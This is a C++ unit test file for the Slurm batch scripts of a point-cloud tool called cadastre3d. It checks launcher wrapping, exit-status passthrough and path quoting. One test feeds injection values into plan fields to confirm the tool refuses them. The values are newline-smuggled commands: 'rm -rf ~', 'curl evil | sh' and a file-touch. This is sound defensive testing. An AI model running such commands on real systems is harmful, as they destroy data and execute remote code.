// The scripts `cadastre3d slurm` writes (issue 37): with a --launcher, every
// cadastre3d they start runs under it (srun, or /usr/bin/time for the scale
// benchmark), with the task's shell variables expanded, and the task's exit
// status is still the batch's. Run here with bash and stand-ins for both.
#include <gtest/gtest.h>

#include <cstdio>
#include <cstdlib>
#include <functional>
#include <filesystem>
#include <fstream>
#include <sstream>

#include <sys/wait.h>

#include "cadastre/batch/slurm.h"
#include "core/error.h"
#include "tests/test_support.h"

using namespace c3d;
using c3d::test::temp_dir;
namespace fs = std::filesystem;

namespace {

void write_script(const fs::path& path, const std::string& text) {
  std::ofstream(path) << "#!/bin/bash\n" << text;
  fs::permissions(path, fs::perms::owner_all);
}

std::string read(const fs::path& path) {
  std::ifstream f(path);
  std::stringstream s;
  s << f.rdbuf();
  return s.str();
}

// A plan whose cadastre3d is a stand-in that logs its first argument and
// exits with EXIT_CODE, under a launcher that logs its own argument.
SlurmPlan stand_in_plan(const fs::path& dir, int exit_code) {
  const std::string calls = shell_quote((dir / "calls").string());
  write_script(dir / "c3d", "echo \"c3d $1\" >> " + calls + "\nexit " + std::to_string(exit_code) + "\n");
  write_script(dir / "launch", "echo \"launch $1\" >> " + calls + "\nshift\nexec \"$@\"\n");
  SlurmPlan p;
  p.exe = (dir / "c3d").string();
  p.workdir = dir.string();
  p.out = (dir / "out").string();
  p.shards = 2;
  p.batch_args = {"--cloud", "c.las"};
  p.launcher = shell_quote((dir / "launch").string()) + " task-${SLURM_ARRAY_TASK_ID:-finish}";
  return p;
}

int run_bash(const std::string& script, const std::string& env) {
  const int rc = std::system((env + " bash " + shell_quote(script) + " > /dev/null 2>&1").c_str());
  return WIFEXITED(rc) ? WEXITSTATUS(rc) : -1;
}

}  // namespace

TEST(SlurmScripts, WithoutLauncherTheTasksRunCadastre3dItself) {
  const fs::path dir = temp_dir("slurm_scripts_plain");
  SlurmPlan p = stand_in_plan(dir, 0);
  p.launcher.clear();
  const SlurmScripts s = write_slurm_scripts(p);
  EXPECT_NE(read(s.shards).find("\n'" + p.exe + "' batch"), std::string::npos) << read(s.shards);
  ASSERT_EQ(run_bash(s.shards, "SLURM_ARRAY_TASK_ID=2"), 0);
  EXPECT_EQ(read(dir / "calls"), "c3d batch\n");
}

TEST(SlurmScripts, EveryCadastre3dRunsUnderTheLauncher) {
  const fs::path dir = temp_dir("slurm_scripts_launcher");
  SlurmPlan p = stand_in_plan(dir, 0);
  p.store = "postgresql://u@h/db";  // finish: `merge --store`, the shared store's outputs and fit
  const SlurmScripts s = write_slurm_scripts(p);
  ASSERT_EQ(run_bash(s.shards, "SLURM_ARRAY_TASK_ID=2"), 0);
  ASSERT_EQ(run_bash(s.finish, "unset SLURM_ARRAY_TASK_ID;"), 0);
  EXPECT_EQ(read(dir / "calls"), "launch task-2\nc3d batch\nlaunch task-finish\nc3d merge\n");
}

TEST(SlurmScripts, TheMergeRunsUnderTheLauncherAndTheExitStatusPassesThrough) {
  const fs::path dir = temp_dir("slurm_scripts_exit");
  const SlurmScripts s = write_slurm_scripts(stand_in_plan(dir, 3));
  EXPECT_EQ(run_bash(s.shards, "SLURM_ARRAY_TASK_ID=1"), 0);  // 3: done with failed parcels
  EXPECT_EQ(run_bash(s.finish, "unset SLURM_ARRAY_TASK_ID;"), 3);  // merge's own status
  EXPECT_EQ(read(dir / "calls"), "launch task-1\nc3d batch\nlaunch task-finish\nc3d merge\n");
  const SlurmScripts failing = write_slurm_scripts(stand_in_plan(dir, 1));
  EXPECT_EQ(run_bash(failing.shards, "SLURM_ARRAY_TASK_ID=1"), 1);
}

// A newline in a path or an option would end a #SBATCH line or a comment and
// run what follows on the cluster: every text of the plan is checked, and
// the error shows it on one line.
TEST(SlurmScripts, ControlCharactersAreRefused) {
  const fs::path dir = temp_dir("slurm_scripts_control");
  const std::vector<std::function<void(SlurmPlan&)>> hostile = {
      [](SlurmPlan& p) { p.out += "\n#SBATCH --array=1\ntouch /tmp/c3d-owned"; },
      [](SlurmPlan& p) { p.workdir += "\nrm -rf ~"; },
      [](SlurmPlan& p) { p.sbatch_options = {"--partition=cpu\ncurl evil | sh"}; },
      [](SlurmPlan& p) { p.launcher = "srun\r"; },
      [](SlurmPlan& p) { p.batch_args.push_back("--where=NIB\x1b[2J"); }};
  for (const auto& spoil : hostile) {
    SlurmPlan p = stand_in_plan(dir, 0);
    spoil(p);
    try {
      write_slurm_scripts(p);
      ADD_FAILURE() << "written";
    } catch (const InputError& e) {
      const std::string what = e.what();
      EXPECT_NE(what.find("control character"), std::string::npos) << what;
      EXPECT_EQ(what.find('\n'), std::string::npos) << what;
    }
  }
  EXPECT_FALSE(fs::exists(dir / "out" / "slurm")) << "nothing written";
}

// Spaces, quotes and '%' in the folders: the #SBATCH lines quote them as
// sbatch reads them, the commands as bash does. (Submitted to a real Slurm
// by tests/services_check.sh: ForScript_SubmittedFromAHostileFolder.)
fs::path hostile_folder() {
  const fs::path dir = fs::path(temp_dir("slurm_scripts_spaces")) / "a b \"q\" 50%";
  fs::create_directories(dir);
  return dir;
}

TEST(SlurmScripts, PathsWithSpacesQuotesAndPercentRunAsWritten) {
  const fs::path dir = hostile_folder();
  const SlurmScripts s = write_slurm_scripts(stand_in_plan(dir, 0));
  const std::string text = read(s.shards);
  std::string quoted;
  for (char c : dir.string()) quoted += c == '"' ? std::string("\\\"") : std::string(1, c);
  EXPECT_NE(text.find("#SBATCH --chdir=\"" + quoted + "\"\n"), std::string::npos) << text;
  EXPECT_NE(text.find("/slurm/shard-%a.log\"\n"), std::string::npos) << text;
  EXPECT_NE(text.find("50%%"), std::string::npos) << "a literal % in the log's path: " << text;
  ASSERT_EQ(run_bash(s.shards, "SLURM_ARRAY_TASK_ID=2"), 0);
  EXPECT_EQ(read(dir / "calls"), "launch task-2\nc3d batch\n");
}

// Run by tests/services_check.sh with its Slurm (SLURM_CONF set): the task
// starts in the hostile folder, logs where the script says and runs the stand-in.
TEST(SlurmScripts, ForScript_SubmittedFromAHostileFolder) {
  ASSERT_NE(std::getenv("SLURM_CONF"), nullptr) << "run by tests/services_check.sh";
  const fs::path dir = hostile_folder();
  const SlurmScripts s = write_slurm_scripts(stand_in_plan(dir, 0));
  int rc = 1;
  test::shell("sbatch --wait --array=1 " + shell_quote(s.shards), &rc);
  EXPECT_EQ(rc, 0);
  EXPECT_EQ(read(dir / "calls"), "launch task-1\nc3d batch\n");
  EXPECT_TRUE(fs::exists(dir / "out" / "slurm" / "shard-1.log"));
}
